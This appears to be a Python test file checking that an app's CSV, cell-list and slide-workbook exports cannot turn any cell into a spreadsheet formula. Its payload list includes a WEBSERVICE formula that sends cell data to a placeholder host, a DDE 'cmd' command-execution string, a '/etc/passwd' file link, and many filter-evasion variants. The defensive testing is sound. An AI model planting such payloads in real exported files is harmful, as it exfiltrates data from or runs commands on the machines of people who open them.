"""What a spreadsheet makes of our files: in whatever way it reads them, no cell of anybody's becomes a formula."""

import csv
import io
import re
import tomllib
import zipfile
from pathlib import Path

import numpy as np
import pytest
from openpyxl import load_workbook

from core.audits.transport.preview import preview
from core.audits.transport.settings import CellColumn
from core.base.tables import Table, as_csv
from core.data.dataset import Dataset
from core.figures.series import Span, Spans
from core.slides.deck import Deck, Slide
from core.slides.powerpoint import write
from dashboard.audits.transport.cell_list import as_csv as list_of_cells
from tests.builders_transport import make_people

FORMULAS = (
    *('=WEBSERVICE("https://x.example/"&A2)', "=1+1", "{=1+1}", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0"),
    *(" =1", "\t=1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1", "\x01=1", "'=1", '"=1"', '""=1', "\u2060@x"),
    *("x;=1+1;y", 'x;"=1";', "x\t=1+1\ty", "x\n=1+1\n", "x\r\n=1", "x; \u200b=1", ";;;=1", "x\u2028=1", "x\x0b=1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "x;\uff1d1", "|cmd", "%0A=1"),
    *("https://x.example/", "mailto:a@x.example", "external:\\\\x.example\\a.xlsx", "internal:Sheet1!A1"),
    *("file:///etc/passwd", "ftp://x.example", "#NAME?", "TRUE", "1e5"),
)
SIGNS = re.compile("[=+@|%\uff1d\uff0b\uff0d\uff20-]")
NUMBERS = ("-1.5", "+3%", "12,000", "-0,5")


def read(content: bytes, **how: object) -> list[str]:
    """Every field as one spreadsheet or another finds it."""
    text = content.decode("utf-8-sig")
    found = [field for row in csv.reader(io.StringIO(text, newline=""), **how) for field in row]  # type: ignore[arg-type]
    for ending in ("\r", "\n", "\x0b", "\x0c", "\x85", "\u2028"):
        found = [part for field in found for part in field.split(ending)]
    return found


@pytest.mark.parametrize(
    "how",
    [
        {},
        {"delimiter": ";"},
        {"delimiter": "\t"},
        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
        {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
    ],
    ids=str,
)
def test_no_cell_of_a_csv_is_a_formula(how: dict[str, object]) -> None:
    written = Table("Of cells", ("Name", "=1"), tuple((cell, f"x {cell}") for cell in FORMULAS)).csv
    for field in read(written, **how):
        seen = field.lstrip("".join(map(chr, range(33))) + '"\u00a0\u200b\ufeff\u3000\u2060')
        assert not SIGNS.match(seen), repr(field)


def test_numbers_and_plain_words_stay_as_they_are() -> None:
    cells = (*NUMBERS, "a, b; c", "men; women", "-", "–", "50% of people", "x@y.example", "سن", "it's", "")
    rows = list(csv.reader(io.StringIO(as_csv([cells]).decode("utf-8-sig"))))
    assert [tuple(cell.removeprefix("'") for cell in row) for row in rows] == [cells]
    assert rows[0][: len(NUMBERS)] == list(NUMBERS)


def test_the_list_of_kinds_of_people_is_written_by_the_same_hand() -> None:
    frame, roles = make_people(10 * len(FORMULAS))
    frame["charge"] = np.array(FORMULAS)[np.arange(len(frame)) % len(FORMULAS)]
    cells = preview(Dataset.build(frame, roles), (CellColumn(name="charge"),)).cells
    for how in ({}, {"delimiter": ";"}):
        assert not [field for field in read(list_of_cells(cells), **how) if SIGNS.match(field.strip('" '))]


def test_a_long_cell_takes_no_longer_than_its_length() -> None:
    for part in (";", " ", "\n", "\u200b", "; ", "'", ";='"):
        as_csv([[part * 1_000_000]])


def test_what_charts_on_slides_hold_are_names_and_no_formulas() -> None:
    rows = tuple(Span(name, name, 1.0, 0.5, 1.5) for name in FORMULAS)
    deck = Deck("=1", "=1", (Slide("a", "b", picture=Spans(rows, "=1", (1.0,), "=1", 0.0, "=1"), alt="=1"),))
    with zipfile.ZipFile(io.BytesIO(write(deck))) as archive:
        books = [archive.read(name) for name in archive.namelist() if name.endswith(".xlsx")]
    assert books
    for book in books:
        sheet = load_workbook(io.BytesIO(book)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert {cell.value for cell in cells if cell.data_type == "s"} & {'=WEBSERVICE("https://x.example/"&A2)'}
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            names = parts.namelist()
            assert not any("<f>" in parts.read(name).decode() for name in names if "/sheet" in name)
            assert not any("External" in parts.read(name).decode() for name in names if name.endswith(".rels"))


def test_a_browser_saves_no_table_by_itself() -> None:
    config = Path(__file__).parents[2] / "dashboard" / ".streamlit" / "config.toml"
    assert tomllib.loads(config.read_text())["client"]["disableDataExport"] is True
